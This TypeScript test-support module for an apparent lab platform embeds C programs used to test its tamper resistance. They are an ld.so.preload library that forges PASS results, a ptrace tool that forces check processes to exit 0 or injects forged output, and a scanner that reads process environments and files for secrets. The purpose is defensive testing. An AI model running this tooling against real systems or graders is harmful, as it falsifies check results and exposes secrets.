/**
 * The learner's weapons for the tamper suite: small C programs compiled on the platform (the
 * machine running the tests, which has gcc and a static libc for the toolbox anyway) and copied
 * into a host with driver.writeFile, as a learner would upload a tool. Not a test file itself.
 */
import { execFile } from 'node:child_process';
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';

const run = promisify(execFile);

/** Compiles once per source and flags (cached in the temp dir); returns the binary. */
export async function compile(name: string, source: string, flags: string[]): Promise<Buffer> {
  const hash = createHash('sha256')
    .update(JSON.stringify([source, flags]))
    .digest('hex')
    .slice(0, 12);
  const dir = path.join(os.tmpdir(), 'labforge-tamper-bin');
  const out = path.join(dir, `${name}-${hash}`);
  if (!fs.existsSync(out)) {
    fs.mkdirSync(dir, { recursive: true });
    const src = path.join(dir, `${name}-${hash}.c`);
    fs.writeFileSync(src, source);
    const tmp = `${out}.${process.pid}`;
    await run(process.env.CC || 'gcc', [...flags, '-o', tmp, src], { timeout: 60_000 });
    fs.renameSync(tmp, out);
  }
  return fs.readFileSync(out);
}

/** /etc/ld.so.preload payload: every dynamic program prints a "pass" and exits 0 before main. */
export const PRELOAD_C = String.raw`
#include <unistd.h>
__attribute__((constructor)) static void forge(void) {
  static const char msg[] = "@@labforge:check:0:0\nPASS\n";
  write(1, msg, sizeof msg - 1);
  _exit(0);
}
`;

/**
 * lf-probe MODE LOG STOP: finds check processes (an argument equal to --noprofile) and, once per
 * process, reads /proc/PID/environ, then by MODE:
 *   control  PTRACE_SEIZE (undone at once: interrupt, wait, detach), open /proc/PID/fd/1;
 *   attack   that, plus PTRACE_ATTACH (undone) and, if fd 1 opens, a forged FAIL line into it;
 *   forge    PTRACE_ATTACH, then turn the check's next system call into exit_group(0) (x86-64):
 *            a failing check "passes".
 * Each errno is logged, and whether the target still ran afterwards (alive=1). Runs until STOP
 * exists (120 s at most).
 */
export const PROBE_C = String.raw`
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static FILE *logf;
static const char *name(int e) {
  static char b[16];
  switch (e) {
    case 0: return "ok";
    case EPERM: return "EPERM";
    case EACCES: return "EACCES";
    case ESRCH: return "ESRCH";
    case ENOENT: return "ENOENT";
  }
  snprintf(b, sizeof b, "E%d", e);
  return b;
}
static long long now_ms(void) {
  struct timespec t;
  clock_gettime(CLOCK_REALTIME, &t);
  return t.tv_sec * 1000LL + t.tv_nsec / 1000000;
}
/* /proc/PID/NAME into buf (NUL-terminated): its length, or 0 when it cannot be read. */
static ssize_t read_proc(int pid, const char *name, char *buf, size_t size) {
  char p[64];
  snprintf(p, sizeof p, "/proc/%d/%s", pid, name);
  int fd = open(p, O_RDONLY);
  if (fd < 0) return 0;
  ssize_t n = read(fd, buf, size - 1);
  close(fd);
  if (n <= 0) return 0;
  buf[n] = 0;
  return n;
}
static int is_check(int pid) {
  char buf[8192];
  const char needle[] = {'-', '-', 'n', 'o', 'p', 'r', 'o', 'f', 'i', 'l', 'e', 0};
  ssize_t n = read_proc(pid, "cmdline", buf, sizeof buf);
  if (!n) return 0;
  for (ssize_t i = 0; i < n; i += strlen(buf + i) + 1)
    if (strcmp(buf + i, needle) == 0) return 1;
  return 0;
}
static int seize(int pid) {
  if (ptrace(PTRACE_SEIZE, pid, 0, 0) != 0) return errno;
  int st;
  ptrace(PTRACE_INTERRUPT, pid, 0, 0);
  waitpid(pid, &st, __WALL);
  ptrace(PTRACE_DETACH, pid, 0, 0);
  return 0;
}
/* The tracee is in a ptrace stop: make its next system call exit_group(0), then let it go. */
static int exit_zero(int pid) {
  struct user_regs_struct r;
  int st;
  if (ptrace(PTRACE_SETOPTIONS, pid, 0, PTRACE_O_TRACESYSGOOD) != 0) return errno;
  for (int i = 0; i < 8; i++) {
    if (ptrace(PTRACE_SYSCALL, pid, 0, 0) != 0) return errno;
    if (waitpid(pid, &st, __WALL) < 0) return errno;
    if (!WIFSTOPPED(st)) return ESRCH;
    if (WSTOPSIG(st) != (SIGTRAP | 0x80)) continue;
    if (ptrace(PTRACE_GETREGS, pid, 0, &r) != 0) return errno;
    if ((long)r.rax != -ENOSYS) continue; /* a syscall-exit stop: wait for the next entry */
    r.orig_rax = SYS_exit_group;
    r.rdi = 0;
    if (ptrace(PTRACE_SETREGS, pid, 0, &r) != 0) return errno;
    ptrace(PTRACE_DETACH, pid, 0, 0);
    return 0;
  }
  ptrace(PTRACE_DETACH, pid, 0, 0);
  return EAGAIN;
}
static int attach(int pid, int forge, int *forged) {
  if (ptrace(PTRACE_ATTACH, pid, 0, 0) != 0) return errno;
  int st;
  waitpid(pid, &st, __WALL);
  if (forge) *forged = exit_zero(pid);
  else ptrace(PTRACE_DETACH, pid, 0, 0);
  return 0;
}
/* Still running after the attempts (not gone, not a zombie)? A check that ended meanwhile refuses
 * everything for that reason alone (EPERM, ENOENT), which says nothing about the boundary. */
static int alive(int pid) {
  char buf[512];
  if (!read_proc(pid, "stat", buf, sizeof buf)) return 0;
  char *paren = strrchr(buf, ')');
  return paren && paren[1] == ' ' && paren[2] != 'Z' && paren[2] != 'X';
}
static int environ_of(int pid, int *marker) {
  char p[64], buf[65536];
  snprintf(p, sizeof p, "/proc/%d/environ", pid);
  int fd = open(p, O_RDONLY);
  if (fd < 0) return errno;
  ssize_t n = read(fd, buf, sizeof buf);
  int e = n < 0 ? errno : 0;
  close(fd);
  *marker = n > 0 && memmem(buf, n, "LABFORGE_KIND=check", 19) != NULL;
  return e;
}
static int fd1(int pid, int attack) {
  char p[64];
  snprintf(p, sizeof p, "/proc/%d/fd/1", pid);
  int fd = open(p, O_WRONLY | O_NONBLOCK);
  if (fd < 0) return errno;
  if (attack) {
    static const char forged[] = "FAIL: forged by lf-probe\n";
    if (write(fd, forged, sizeof forged - 1) < 0) { int e = errno; close(fd); return e; }
  }
  close(fd);
  return 0;
}

int main(int argc, char **argv) {
  if (argc != 4) return 2;
  int attack = strcmp(argv[1], "attack") == 0, forge = strcmp(argv[1], "forge") == 0;
  logf = fopen(argv[2], "a");
  if (!logf) return 3;
  setvbuf(logf, NULL, _IOLBF, 0);
  static char done[32768];
  fprintf(logf, "READY pid=%d mode=%s\n", getpid(), argv[1]);
  long long until = now_ms() + 120000;
  while (access(argv[3], F_OK) != 0 && now_ms() < until) {
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d))) {
      int pid = atoi(e->d_name);
      if (pid <= 0 || pid >= (int)sizeof done || pid == getpid() || done[pid] || !is_check(pid)) continue;
      done[pid] = 1;
      int marker = 0, forged = -1;
      int env = environ_of(pid, &marker);
      int s = forge ? -1 : seize(pid);
      int a = attack || forge ? attach(pid, forge, &forged) : -1;
      int f = forge ? -1 : fd1(pid, attack);
      fprintf(logf, "TARGET pid=%d seize=%s attach=%s environ=%s marker=%d fd1=%s exit0=%s alive=%d t=%lld\n", pid, s < 0 ? "-" : name(s),
              a < 0 ? "-" : name(a), name(env), marker, f < 0 ? "-" : name(f), forged < 0 ? "-" : name(forged), alive(pid), now_ms());
    }
    if (d) closedir(d);
    usleep(5000);
  }
  fprintf(logf, "EXIT\n");
  return 0;
}
`;

/**
 * lf-scan NEEDLES LOG STOP [WALK_MS]: looks for secrets where a learner could find them, until
 * STOP exists (600 s at most). NEEDLES: comma-separated hex of each secret's bytes reversed, so
 * this program's own command line never holds one. Every 50 ms it reads every /proc/PID/environ
 * and cmdline it may. Every WALK_MS (default 1000) it walks the whole filesystem (not /proc, /sys,
 * /dev, /.labforge) and reads every file changed since 5 minutes before it started (ctime or
 * mtime; writing a file always sets its ctime: so every file the hosts' creation, a script or the
 * platform wrote), going on with the /proc pass every 256 entries. After STOP, one last walk reads
 * every file. Log lines: START; per walk ROUND n t0 t1 full=F files=N procs=P denied=D passes=K
 * procgap=MS (the longest time between two /proc passes since the walk before); HIT t where path
 * [the process's last argument] (each first time only); EXIT.
 */
export const SCAN_C = String.raw`
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static FILE *logf;
static char *needle[8];
static size_t needle_len[8];
static int needles;
static time_t started;
static int full;
static long files, procs, denied, passes, walked;
static long long last_pass, pass_gap;
static char *seen[512];
static int nseen;
static char buf[1 << 20];

static long long now_ms(void) {
  struct timespec t;
  clock_gettime(CLOCK_REALTIME, &t);
  return t.tv_sec * 1000LL + t.tv_nsec / 1000000;
}
static int holds(const char *b, size_t n) {
  for (int i = 0; i < needles; i++)
    if (n >= needle_len[i] && memmem(b, n, needle[i], needle_len[i])) return 1;
  return 0;
}
static void hit(const char *where, const char *what) {
  char key[4200];
  snprintf(key, sizeof key, "%s %s", where, what);
  for (int i = 0; i < nseen; i++)
    if (strcmp(seen[i], key) == 0) return;
  if (nseen < 512) seen[nseen++] = strdup(key);
  fprintf(logf, "HIT %lld %s\n", now_ms(), key);
}
static ssize_t slurp(const char *path, char *b, size_t size) {
  int fd = open(path, O_RDONLY);
  if (fd < 0) return -errno;
  size_t got = 0;
  ssize_t n;
  while (got < size && (n = read(fd, b + got, size - got)) > 0) got += n;
  close(fd);
  return got;
}
static void proc_pass(void) {
  DIR *d = opendir("/proc");
  struct dirent *e;
  long long t = now_ms();
  if (last_pass && t - last_pass > pass_gap) pass_gap = t - last_pass;
  last_pass = t;
  passes++;
  while (d && (e = readdir(d))) {
    int pid = atoi(e->d_name);
    if (pid <= 0 || pid == getpid()) continue;
    char p[64], what[200], label[64] = "?";
    procs++;
    /* The process's last argument (a lifecycle script's name), unless it holds a needle. */
    snprintf(p, sizeof p, "/proc/%d/cmdline", pid);
    ssize_t n = slurp(p, buf, sizeof buf - 1);
    if (n > 0) {
      buf[n] = 0;
      ssize_t last = n - 1;
      while (last > 0 && buf[last - 1]) last--;
      if (!holds(buf + last, strlen(buf + last))) {
        snprintf(label, sizeof label, "%.63s", buf + last);
        for (char *c = label; *c; c++) if (*c <= ' ' || *c > '~') *c = '_';
      }
      snprintf(what, sizeof what, "/proc/%d/cmdline %s", pid, label);
      if (holds(buf, n)) hit("cmdline", what);
    }
    snprintf(p, sizeof p, "/proc/%d/environ", pid);
    n = slurp(p, buf, sizeof buf);
    if (n == -EACCES || n == -EPERM) denied++;
    snprintf(what, sizeof what, "/proc/%d/environ %s", pid, label);
    if (n > 0 && holds(buf, n)) hit("environ", what);
  }
  if (d) closedir(d);
}
static int visit(const char *path, const struct stat *st, int type, struct FTW *ftw) {
  (void)ftw;
  if (++walked % 256 == 0) proc_pass();
  if (type == FTW_D && (!strcmp(path, "/proc") || !strcmp(path, "/sys") || !strcmp(path, "/dev") || !strcmp(path, "/.labforge")))
    return FTW_SKIP_SUBTREE;
  if (type != FTW_F || !S_ISREG(st->st_mode) || st->st_size == 0) return FTW_CONTINUE;
  if (!full && st->st_ctime < started - 300 && st->st_mtime < started - 300) return FTW_CONTINUE;
  files++;
  int fd = open(path, O_RDONLY | O_NOFOLLOW | O_NONBLOCK | O_NOCTTY);
  if (fd < 0) return FTW_CONTINUE;
  void *m = mmap(NULL, st->st_size, PROT_READ, MAP_PRIVATE, fd, 0);
  close(fd);
  if (m == MAP_FAILED) return FTW_CONTINUE;
  if (holds(m, st->st_size)) hit("file", path);
  munmap(m, st->st_size);
  return FTW_CONTINUE;
}
static int unhex(int c) { return c <= '9' ? c - '0' : (c | 32) - 'a' + 10; }

int main(int argc, char **argv) {
  if (argc != 4 && argc != 5) return 2;
  long walk_ms = argc == 5 ? atol(argv[4]) : 1000;
  for (char *tok = strtok(argv[1], ","); tok && needles < 8; tok = strtok(NULL, ",")) {
    size_t n = strlen(tok) / 2;
    char *s = malloc(n + 1);
    for (size_t i = 0; i < n; i++) s[n - 1 - i] = unhex(tok[2 * i]) * 16 + unhex(tok[2 * i + 1]);
    s[n] = 0;
    needle[needles] = s;
    needle_len[needles++] = n;
  }
  logf = fopen(argv[2], "a");
  if (!logf) return 3;
  setvbuf(logf, NULL, _IOLBF, 0);
  started = time(NULL);
  long long last_walk = 0, until = now_ms() + 600000;
  fprintf(logf, "START %lld pid=%d\n", now_ms(), getpid());
  for (long round = 1;; usleep(50000)) {
    proc_pass();
    int last = access(argv[3], F_OK) == 0 || now_ms() >= until;
    long long t0 = now_ms();
    if (!last && t0 - last_walk < walk_ms) continue;
    last_walk = t0;
    full = last;
    files = 0;
    nftw("/", visit, 32, FTW_PHYS | FTW_ACTIONRETVAL);
    fprintf(logf, "ROUND %ld %lld %lld full=%d files=%ld procs=%ld denied=%ld passes=%ld procgap=%lld\n", round++, t0, now_ms(), full, files, procs,
            denied, passes, pass_gap);
    procs = denied = passes = pass_gap = 0;
    if (last) break;
  }
  fprintf(logf, "EXIT %lld\n", now_ms());
  return 0;
}
`;
